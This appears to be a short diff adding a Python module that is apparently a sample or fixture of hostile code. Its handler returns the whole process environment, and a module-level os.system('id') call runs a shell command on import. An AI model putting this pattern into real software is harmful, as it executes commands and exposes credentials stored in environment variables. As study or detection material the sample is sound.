@@ -1,0 +1,8 @@
+import os
+
+
+def handle(data):
+    return os.environ
+
+
+os.system('id')
